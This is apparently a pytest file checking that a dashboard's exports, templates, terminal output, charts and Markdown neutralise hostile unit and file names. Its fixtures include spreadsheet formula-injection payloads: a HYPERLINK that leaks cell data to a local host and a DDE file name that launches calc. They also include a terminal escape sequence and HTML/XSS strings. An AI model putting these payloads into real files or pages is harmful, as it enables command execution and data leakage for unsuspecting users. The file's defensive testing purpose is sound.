"""Outputs carry data, never code: hostile unit, file and user names through every output.

A database holds units named like formulas (=HYPERLINK(...), +, -, @), led by a tab, a CR,
spaces, holding a CR or LF inside, and an escape sequence; two units have formula-led codes
(the code rule refuses those now: the tree is loaded past the check, as a database from
before the rule could hold it).  Every output is made from it — the app's table downloads,
`export` in both layouts and formats, `units`, `settings`, templates, the marked workbook and
the combined report of `import --report` — and read back the way a spreadsheet reads it: no
formula cell, no field that starts a formula, no field that starts a row of its own.  The
terminal never receives an escape sequence.
"""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from dashboard.cli import main
from dashboard.db import Store
from dashboard.domain.tree import Tree, TreeError, Unit
from dashboard.ingest import build_template, import_return, problems_frame, report_workbook
from dashboard.output import export, safe
from tests.support.apptest import PAGES, UNSCOPED
from tests.support.hostile import QUARTERS, build_db, load_tree, tree_of
from tests.support.returns import fill, set_value
from tests.support.spreadsheet import csv_formulas, csv_rows, xlsx_formulas

LEAK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A2,"详情")'
ESC = "\x1b[2J"  # clears a terminal
UNITS = [  # code, name_zh, name_en, level, parent
    ("G", LEAK, "=1+2", "party_group", None),
    ("C1", "+1+2 第一党委", "+SUM(1,2)", "committee", "G"),
    ("C1B1", "\t=1+2", "-1+2", "branch", "C1"),
    ("C1B2", "x\r=1+2", "@SUM(1+1)", "branch", "C1"),
    ("C1B3", "y\n=3+4", " =5+6", "branch", "C1"),
    ("C2", f"\r=1+2{ESC}", "\n-2+3", "general_branch", "G"),
    ("=C2B1", "二支部", "Branch =", "branch", "C2"),  # formula-led codes: refused by the tree rule
    ("@C2B2", "@三支部", "Branch @", "branch", "C2"),
]
USER = "=1+2\r@user"
BULK_FILE = "=cmd|' /C calc'!A0.xlsx"


def hostile_tree() -> Tree:
    return tree_of(UNITS, check_entries=False)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory) -> Path:
    """The hostile tree with two quarters of figures for every return, loaded by a hostile user
    from a hostile file name (past the code and name rules, as an older database holds it)."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.duckdb"
    return build_db(path, UNITS, user=USER, file_name=BULK_FILE, past_the_rules=True)


@pytest.fixture(scope="module")
def returns(tmp_path_factory) -> dict[str, bytes]:
    """Filled returns under hostile file names: C1's, valid; C1's with a reporter's formula, an
    bound where a figure goes and formula-led text; C2's (its rows carry the formula-led codes).  Made
    on a twin of the tree without the escape sequence, so these files exist whatever the
    template writer does with one (before the fix it could not write C2's at all)."""
    with Store(tmp_path_factory.mktemp("twin") / "twin.duckdb") as store:
        load_tree(store, [(c, zh.replace(ESC, ""), en, lvl, p) for c, zh, en, lvl, p in UNITS], past_the_rules=True)
        c1 = fill(build_template(store, "C1", "2024Q3"))[0]
        c2 = fill(build_template(store, "C2", "2024Q3"))[0]
    bad, _ = set_value(c1, "学习教育", "C1B1", "theme_party_days", "超过30")
    bad, _ = set_value(bad, "学习教育", "C1B2", "theme_party_days", '=HYPERLINK("http://127.0.0.1:9/","x")')
    bad, _ = set_value(bad, "学习教育", "C1", "theme_party_days", "@SUM(1+1)")
    return {"=1+2 报表.xlsx": c1, "r\r=3+4.xlsx": bad, f"@{ESC}x.xlsx": c2}


def _frame(store: Store, **kw) -> pd.DataFrame:
    return export.export_frame(store, unit="G", first=QUARTERS[0], last=QUARTERS[-1], **kw)


def _app_tables(db: Path, returns: dict[str, bytes]) -> dict[str, pd.DataFrame]:
    """The tables the app offers for download, as its pages build them."""
    with Store(db) as store:
        history = store.query("submission_history", units=["G", "C1", "C2"], **{"from": "0000Q1", "to": "9999Q4"})
        outcomes = [import_return(store, data, name, USER, dry_run=True) for name, data in returns.items()]
        return {
            "explorer long": _frame(store),
            "explorer wide, en": _frame(store, layout="wide", lang="en"),
            "submission history": history[["unit_code", "unit_name_zh", "submitted_by", "file_name"]],
            "validation report": problems_frame(outcomes, "zh"),
        }


def _check_csv(data: bytes, n_rows: int) -> None:
    text = data.decode("utf-8-sig")
    assert csv_formulas(text) == []
    assert len(csv_rows(text)) == n_rows + 1, "a field started a row of its own"


def _check_xlsx(data: bytes, n_rows: int | None = None) -> None:
    assert xlsx_formulas(data) == []
    if n_rows is not None:
        assert openpyxl.load_workbook(io.BytesIO(data)).active.max_row == n_rows + 1


TABLES = ["explorer long", "explorer wide, en", "submission history", "validation report"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("table", TABLES)
def test_the_apps_table_downloads_carry_no_formula(hostile_db, returns, table, fmt):
    frame = _app_tables(hostile_db, returns)[table]
    assert len(frame) > 0
    if fmt == "csv":
        _check_csv(export.to_csv_bytes(frame), len(frame))
    else:
        _check_xlsx(export.to_xlsx_bytes(frame), len(frame))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("layout_, lang", [("long", "zh"), ("wide", "zh"), ("long", "en"), ("wide", "en")])
def test_the_export_command_writes_no_formula(hostile_db, tmp_path, capsys, layout_, lang, fmt):
    out = tmp_path / f"out.{fmt}"
    code = main(["export", "--db", str(hostile_db), "--layout", layout_, "--lang", lang, "--out", str(out)])
    assert code == 0
    with Store(hostile_db) as store:
        n = len(_frame(store, layout=layout_, lang=lang))
    assert n > 0
    (_check_csv if fmt == "csv" else _check_xlsx)(out.read_bytes(), n)
    assert ESC not in "".join(capsys.readouterr())


def test_units_on_the_command_line_is_csv_with_no_formula_and_no_escape(hostile_db, capsys):
    assert main(["units", "--db", str(hostile_db)]) == 0
    out = capsys.readouterr().out
    assert ESC not in out and "\\x1b[2J" in out  # shown, not obeyed
    _check_csv(out.encode(), len(UNITS))


def test_settings_on_the_command_line_is_csv_with_no_formula(monkeypatch, capsys):
    monkeypatch.setenv("DANGJIAN_DB", '=HYPERLINK("http://127.0.0.1:9/")\r@x.duckdb')
    assert main(["settings"]) == 0
    out = capsys.readouterr().out
    rows = csv_rows(out)
    assert csv_formulas(out) == [] and all(len(r) == 4 for r in rows)


@pytest.mark.parametrize("unit", ["G", "C1", "C2"])
def test_a_template_holds_no_formula(hostile_db, unit):
    with Store(hostile_db) as store:
        _check_xlsx(build_template(store, unit, "2024Q3"))


def test_the_template_command_writes_no_formula(hostile_db, tmp_path, capsys):
    out = tmp_path / "t.xlsx"
    assert main(["template", "--db", str(hostile_db), "--unit", "G", "--period", "2024Q3", "--out", str(out)]) == 0
    _check_xlsx(out.read_bytes())


def test_the_marked_workbook_holds_no_formula_not_even_the_reporters(hostile_db, returns):
    name = "r\r=3+4.xlsx"
    with Store(hostile_db) as store:
        outcome = import_return(store, returns[name], name, USER, dry_run=True)
    assert outcome.status == "rejected"
    reporters = [c for c in xlsx_formulas(returns[name]) if c[0] == "学习教育"]
    assert reporters, "the return under test holds a formula of the reporter's"
    marked = report_workbook(returns[name], outcome)
    _check_xlsx(marked)
    listed = openpyxl.load_workbook(io.BytesIO(marked))["校验结果"]
    assert listed.max_row >= 3 + len(outcome.problems)


def test_import_with_a_report_for_one_and_for_several_files(hostile_db, returns, tmp_path, capsys):
    db = tmp_path / "db.duckdb"
    db.write_bytes(hostile_db.read_bytes())
    files = []
    for i, (name, data) in enumerate(returns.items()):
        folder = tmp_path / f"f{i}"  # the names are hostile, not the folders
        folder.mkdir()
        files.append(folder / name)
        files[-1].write_bytes(data)
    one = tmp_path / "one.xlsx"
    main(["import", "--db", str(db), "--user", USER, "--report", str(one), str(files[1])])
    _check_xlsx(one.read_bytes())
    several = tmp_path / "several.xlsx"
    main(["import", "--db", str(db), "--user", USER, "--report", str(several), *map(str, files)])
    written = sorted(tmp_path.glob("several*.xlsx"))
    assert len(written) >= 2  # the combined list and at least one marked copy
    assert not any(ch in p.name for p in written for ch in "\r\x1b")  # named after the files, safely
    for path in written:
        _check_xlsx(path.read_bytes())
    out = capsys.readouterr()
    assert ESC not in out.out + out.err


def test_the_terminal_is_shown_names_never_obeys_them(hostile_db, returns, tmp_path, capsys):
    """What `import` and `submissions` print holds no escape sequence, CR or bidi override:
    they are shown escaped (a unit named \\x1b[2J would otherwise clear the screen)."""
    db = tmp_path / "db.duckdb"
    db.write_bytes(hostile_db.read_bytes())
    path = tmp_path / f"@{ESC}x.xlsx"
    path.write_bytes(returns[f"@{ESC}x.xlsx"])
    main(["import", "--db", str(db), "--user", f"u{ESC}\u202e", str(path)])
    main(["submissions", "--db", str(db)])
    out = capsys.readouterr()
    text = out.out + out.err
    assert "\\x1b[2J" in text
    for bad in ("\x1b", "\r", "\u202e"):
        assert bad not in text


# --- the tree's own rules: codes and names that enter the product -----------------------------------


@pytest.mark.parametrize("code", ["=C1", "+C1", "-C1", "@C1", "C 1", "C1\r", "", "c" * 33, "单位1", "C1/2"])
def test_a_tree_refuses_a_code_outside_the_pattern_and_names_it(code):
    rows = [Unit("G", "党组", "Group", "party_group", None, None, None, 1),
            Unit(code, "党委", "Committee", "committee", "G", None, None, 2)]
    with pytest.raises(TreeError, match=re.escape(f"unit {code!r}: a code is letters")):
        Tree(rows)


@pytest.mark.parametrize("name", ["a\rb", "a\nb", "\tx", f"x{ESC}", "a\x00b", "a\u202eb", "a\x85b", "  "])
def test_a_tree_refuses_a_name_with_control_characters(name):
    rows = [Unit("G", "党组", "Group", "party_group", None, None, None, 1),
            Unit("C1", name, "Committee", "committee", "G", None, None, 2)]
    with pytest.raises(TreeError, match="unit 'C1': name_zh"):
        Tree(rows)


def test_store_load_tree_applies_the_rules_and_an_old_database_still_opens(hostile_db, tmp_path):
    with Store(tmp_path / "x.duckdb") as store, pytest.raises(TreeError, match="'=C2B1'"):
        store.load_tree(Tree(hostile_tree().units, check_entries=False))
    with Store(hostile_db) as store:  # loaded before the rules: read back as it is
        assert store.tree()["=C2B1"].name_zh == "二支部"


def test_formula_led_names_are_fine_in_a_tree_outputs_neutralise_them():
    tree = Tree([Unit("G", "=1+2", "@x", "party_group", None, None, None, 1)])
    assert (tree["G"].name_zh, tree["G"].name_en) == ("=1+2", "@x")  # kept as entered
    text = export.to_csv_bytes(pd.DataFrame({"单位": [tree["G"].name_zh, tree["G"].name_en]})).decode("utf-8-sig")
    assert csv_formulas(text) == [] and "'=1+2" in text and "'@x" in text  # written as text


def test_the_checks_here_can_fail():
    """The readers above find what they look for (so a pass means something)."""
    raw = pd.DataFrame({"a": ["x\r=1+2", "=1+2"]}).to_csv(index=False)
    assert csv_formulas(raw) == [(2, 0, "=1+2"), (3, 0, "=1+2")] and len(csv_rows(raw)) == 4
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+2"
    buf = io.BytesIO()
    wb.save(buf)
    assert xlsx_formulas(buf.getvalue()) == [("Sheet", "A1", "=1+2")]


# --- the one neutralising function, the terminal, plotly and Markdown -------------------------------


@pytest.mark.parametrize("text, expected", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("  =1", "'  =1"), ("\u3000=1", "'\u3000=1"), ("x\r=1", "x\r=1"),
    (f"a{ESC}", "a\\x1b[2J"), (f"={ESC}", "'=\\x1b[2J"), ("安全", "安全"), ("", ""),
])
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(text, expected):
    assert safe.cell(text) == expected


def test_numbers_and_missing_values_stay_as_they_are():
    for value in (-5, -1.5, 0, None, True, pd.NA):
        assert safe.cell(value) is value


def test_a_csv_never_starts_a_row_from_a_field():
    frame = pd.DataFrame({"名称": ["x\r=1+2", "y\n=3", "z\r\n@4", "ok"], "值": [1, -2, 3.5, None]})
    text = safe.csv_text(frame)
    assert csv_rows(text) == [["名称", "值"], ["x\r=1+2", "1"], ["y\n=3", "-2"], ["z\r\n@4", "3.5"], ["ok", ""]]
    assert csv_formulas(text) == []


def test_the_terminal_sees_control_characters_escaped():
    assert safe.printable(f"a{ESC}b\r\n\t\u202e\x85") == "a\\x1b[2Jb\\r\\n\\t\\u202e\\x85"
    assert safe.printable("市水务局党组 · ok") == "市水务局党组 · ok"


HTML_NAMES = ['<a href="http://127.0.0.1:9/">点</a>', "<img src=x onerror=alert(1)>", "%{customdata[2]} & $x$"]


def _texts(fig: dict) -> list[str]:
    """Every text a figure's JSON holds (names, categories, titles, templates)."""
    out = []

    def walk(v):
        if isinstance(v, str):
            out.append(v)
        elif isinstance(v, dict):
            for x in v.values():
                walk(x)
        elif isinstance(v, list):
            for x in v:
                walk(x)
    walk(fig)
    return out


def test_plotly_is_given_names_as_plain_text():
    from dashboard.output import charts

    rank = pd.DataFrame({"unit_code": ["A", "B", "C"], "unit_name": HTML_NAMES, "value": [3.0, 2.0, 1.0],
                         "rank": [1, 2, 3], "n_ranked": [3, 3, 3]})
    values = pd.DataFrame({"unit_order": [1, 2, 3], "unit_code": ["A", "B", "C"], "unit_name_zh": HTML_NAMES,
                           "period": ["2024Q1"] * 3, "value": [1.0, 2.0, 3.0]})
    frame = pd.DataFrame({"unit_name": HTML_NAMES, "indicator_code": ["x"] * 3, "value": [1.0, 2.0, 3.0]})
    figs = [
        charts.ranking_bar(rank, title=HTML_NAMES[0], indicator="主题党日", unit="次", value_type="count"),
        charts.trend_lines(values, title="t", indicator="i", unit="次", value_type="count"),
        charts.small_multiples(frame.assign(x=frame["unit_name"]), [("x", "i", "次", "count")], title="t", x_col="x"),
        charts.panels(frame, [("x", "i", "次", "count")], title="t"),
    ]
    for fig in figs:
        texts = _texts(fig.to_plotly_json())
        assert not [s for s in texts if "<a" in s or "<img" in s or "%{customdata[2]" in s or "$x$" in s]
    assert charts.plain(HTML_NAMES[0]) == '&lt;a href="http://127.0.0.1:9/"&gt;点&lt;/a&gt;'
    assert list(figs[0].data[0].y) == [charts.plain(n) for n in HTML_NAMES]


MARKDOWN_NAMES = ["![x](http://127.0.0.1:9/p.png)", "[点我](http://127.0.0.1:9/)", "<b>粗</b> **粗** _斜_ `码`",
                  "http://127.0.0.1:9/auto www.example.com a@b.example", ":red[红] :material/home: :smile: $x^2$",
                  "# 标题", "1. 列表", f"行\n换行{ESC}", "\\[反斜杠]"]


@pytest.mark.parametrize("name", MARKDOWN_NAMES)
def test_markdown_sees_a_name_as_literal_text(name):
    from dashboard.app.escape import WORD_JOINER, md

    shown = md(name)
    assert not re.search(r"(?<!\\)[\[\]()<>!*_`#:$&@~|]", shown.replace("\\\\", "")), shown  # every one escaped
    for link in ("http://", "www.", "a@b", ":red[", ":smile:", ":material"):
        assert link not in shown.replace("\\", "")  # broken by a word joiner once the escapes are read
    read = re.sub(r"\\(.)", r"\1", shown).replace(WORD_JOINER, "")  # what a person sees
    assert read == safe.printable(name)


@pytest.fixture
def hostile_app(hostile_db, tmp_path, monkeypatch) -> Path:
    """A private copy of the hostile database, which the app opens through $DANGJIAN_DB."""
    from tests.support.apptest import forget

    path = tmp_path / "app.duckdb"
    path.write_bytes(hostile_db.read_bytes())
    monkeypatch.setenv("DANGJIAN_DB", str(path))
    yield path
    forget()


@pytest.mark.parametrize("page", PAGES)
def test_every_page_runs_on_hostile_names_and_shows_them_escaped(hostile_app, page):
    """(The browser test, tests/browser/test_injection.py, checks what a browser makes of it.)"""
    from dashboard.app.escape import md
    from dashboard.app.registry import BARE
    from tests.support.apptest import assert_clean, open_app

    if page in UNSCOPED:  # the audit log: a hostile login and file name in the trail, shown as typed
        from dashboard.domain.acting import acting
        from tests.support.apptest import app_store

        with acting(USER, "app"):
            app_store(hostile_app).audit("return.import", BULK_FILE, "rejected", "unit=G errors=1")
    at = open_app(page, unit="G")
    assert_clean(at)
    if page in UNSCOPED:
        table = at.dataframe[0].value  # a grid cell: plain text, never markdown
        assert table.iloc[0].tolist()[2:6] == [USER, "看板应用", "导入报表", BULK_FILE]
        assert not [m.value for m in at.markdown if USER in m.value or BULK_FILE in m.value]
        return
    # the scope caption under the title; the projector names the units on its red bar instead
    scope = at.markdown[0].value if page in BARE else at.caption[0].value
    assert md(LEAK) in scope and LEAK not in scope
